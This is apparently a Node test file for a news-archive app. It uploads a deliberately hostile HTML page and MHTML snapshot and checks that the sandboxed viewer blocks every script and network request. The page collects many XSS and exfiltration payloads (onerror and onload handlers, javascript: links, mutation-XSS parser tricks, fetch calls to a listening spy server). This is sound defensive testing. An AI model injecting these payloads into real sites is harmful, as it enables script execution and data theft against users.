import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test } from 'node:test';
import { ADA, listen, openApp, PASSWORD, sendVersions, signIn } from '../support/app.ts';
import { launchBrowser, watch } from '../support/browser.ts';

const OTHER =
  'The ferry Solange ran aground off the northern pier at noon on Tuesday. All four hundred people were safe.';
const PARAGRAPHS = [
  'The ferry Solange ran aground off the northern pier at noon, the port authority of Almeda said on Tuesday.',
  'Nobody was hurt when it touched ground with four hundred people on board, although two cars were damaged.',
  'Harbour master Per Dahl said an inquiry would begin within a week, and that the pier would stay closed.',
].map((text) => `<p>${text}</p>`);
/** A picture of one red point. */
const POINT = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==';

/** Everything a page can try; `spy` is a server that must never hear of it. */
function hostilePage(spy: string): string {
  return `<!doctype html><html><head><title>Ferry runs aground</title>
<base href="${spy}/"><meta http-equiv="refresh" content="0;url=${spy}/refresh">
<link rel="stylesheet" href="${spy}/style.css"><link rel="preconnect" href="${spy}"><link rel="prefetch" href="${spy}/prefetch">
<link rel="icon" href="${spy}/icon.png"><script src="${spy}/script.js"></script><script>parent.hacked = top.hacked = 1; fetch('${spy}/fetch')</script>
<style>@import url(${spy}/import.css); body { background: url("${spy}/background.png"); color: rgb(1, 2, 3) }
@font-face { font-family: x; src: url(${spy}/font.woff2) } p { font-family: x; cursor: u\\72l(${spy}/cursor.png), auto } </style><script></style><script>fetch('${spy}/break')</script></head>
<body onload="fetch('${spy}/onload')"><article><h1>Ferry runs aground</h1>${PARAGRAPHS.join('')}</article>
<img src="${spy}/pixel.gif" srcset="${spy}/set.gif 2x" onerror="fetch('${spy}/onerror')"><img src="x" onerror=alert(1)>
<img id="own" src="data:image/png;base64,${POINT}"><img src="data:image/svg+xml,<svg onload=alert(1)>">
<picture><source srcset="${spy}/source.webp"><img src="${spy}/picture.jpg"></picture>
<iframe src="${spy}/frame"></iframe><iframe srcdoc="<script>fetch('${spy}/srcdoc')</script>"></iframe><object data="${spy}/object"></object><embed src="${spy}/embed">
<video autoplay src="${spy}/video.mp4" poster="${spy}/poster.jpg"></video><audio src="${spy}/audio.mp3" autoplay></audio>
<svg onload="fetch('${spy}/svg')"><image href="${spy}/svg.png"/><script>fetch('${spy}/svgscript')</script><use href="${spy}/use.svg#a"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="fetch('${spy}/mathml')"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=fetch('${spy}/noscript')>"></noscript>
<form action="${spy}/form" method="post" id="f"><input name="q" autofocus onfocus="fetch('${spy}/focus')"><button id="send">Send</button></form>
<a id="leave" href="${spy}/link" ping="${spy}/ping" target="_top">Read more</a><a id="js" href="javascript:fetch('${spy}/js')">Again</a>
<details ontoggle="fetch('${spy}/toggle')" open>x</details><textarea></textarea><img src="${spy}/textarea.gif"></textarea>
<!--><img src="${spy}/comment.gif" onerror="fetch('${spy}/comment')">--><div style="background: url(${spy}/inline.png)" onmouseover="fetch('${spy}/over')">over</div>
</body></html>`;
}

const saved = (html: string) =>
  [
    'From: <Saved by a browser>',
    'Snapshot-Content-Location: https://post.example/ferry',
    'Subject: Ferry',
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; type="text/html"; boundary="b"',
    '',
    '--b',
    'Content-Type: text/html; charset=utf-8',
    'Content-Location: https://post.example/ferry',
    '',
    html.replace('<article>', '<article><img id="carried" src="https://post.example/a.png">'),
    '--b',
    'Content-Type: image/png',
    'Content-Transfer-Encoding: base64',
    'Content-Location: https://post.example/a.png',
    '',
    POINT,
    '--b--',
    '',
  ].join('\r\n');

test('a hostile page is shown, and nothing in it runs or asks anybody', async (t) => {
  const heard: string[] = [];
  const spy = createServer((request, response) => {
    heard.push(String(request.url));
    response.end();
  }).listen(0, '127.0.0.1');
  await new Promise((listening) => spy.once('listening', listening));
  t.after(() => spy.close());
  const html = hostilePage(`http://127.0.0.1:${(spy.address() as AddressInfo).port}`);
  const opened = await openApp(t);
  const origin = await listen(t, opened);
  const made = await sendVersions(await signIn(opened.app), '/stories/new', '/stories', {
    fields: { title: 'Ferry' },
    pastes: [{ text: OTHER }],
    files: [
      { name: 'page.html', bytes: Buffer.from(html) },
      { name: 'saved.mhtml', bytes: Buffer.from(saved(html.replace('Harbour master', 'The master'))) },
    ],
  });
  assert.equal(made.status, 303, made.text);

  const browser = await launchBrowser();
  t.after(() => browser.close());
  const context = await browser.newContext();
  const wrong = watch(context, origin);
  let popups = 0;
  context.on('dialog', () => popups++);
  const page = await context.newPage();
  await page.goto(`${origin}/sign-in`);
  await page.fill('[name=address]', ADA.address);
  await page.fill('[name=password]', PASSWORD);
  await page.press('[name=password]', 'Enter');
  await page.waitForURL(`${origin}/`);

  for (const place of [2, 3]) {
    const here = `${origin}${made.headers.location}/versions/${place}/page`;
    await page.goto(here);
    await page.frameLocator('iframe.snapshot').locator('#own').waitFor();
    // Whatever it might ask for, it has begun to by now; the page itself never falls silent, for it listens.
    await page.waitForTimeout(500);
    assert.deepEqual(wrong, []);
    const frame = page.frameLocator('iframe.snapshot');
    assert.equal(await frame.locator('h1').textContent(), 'Ferry runs aground');
    assert.equal(await frame.locator('p').count(), 3);
    assert.equal(
      await frame
        .locator('p')
        .first()
        .evaluate((p) => getComputedStyle(p).color),
      'rgb(1, 2, 3)',
    );
    assert.equal(await frame.locator('#own').evaluate((img) => (img as HTMLImageElement).naturalWidth), 1);
    assert.equal(
      await frame
        .locator('script, iframe, form, input, svg, link, meta[http-equiv], [onload], [onerror], [href]')
        .count(),
      0,
    );
    if (place === 3)
      assert.equal(await frame.locator('#carried').evaluate((img) => (img as HTMLImageElement).naturalWidth), 1);
    await frame.locator('#leave').click();
    await frame.locator('text=over').hover();
    assert.equal(page.url(), here);
    // Asking the frame is a script that the frame refuses: those are ours.
    const refused = wrong.splice(0).filter((words) => !/Blocked script execution/.test(words));
    assert.deepEqual(refused, []);
    assert.equal(await page.evaluate(() => 'hacked' in globalThis), false);

    // Opened by itself, it is as powerless.
    const answer = await page.goto(`${here}/content`, { waitUntil: 'networkidle' });
    assert.match(answer?.headers()['content-security-policy'] ?? '', /^sandbox; default-src 'none'/);
    assert.equal(answer?.headers()['x-content-type-options'], 'nosniff');
    assert.equal(await page.evaluate(() => globalThis.origin), 'null');
  }
  assert.deepEqual(heard, []);
  assert.equal(popups, 0);
  assert.equal(context.pages().length, 1);
  assert.deepEqual(wrong, []);
  assert.deepEqual(opened.failures, []);
});

test('a version that was pasted has no page', async (t) => {
  const { app } = await openApp(t);
  const agent = await signIn(app);
  const made = await sendVersions(agent, '/stories/new', '/stories', {
    pastes: [{ text: OTHER }, { text: 'Nothing of this stands anywhere else in the papers of the region.' }],
  });
  for (const path of ['page', 'page/content'])
    assert.equal((await agent.get(`${made.headers.location}/versions/1/${path}`)).status, 404);
});
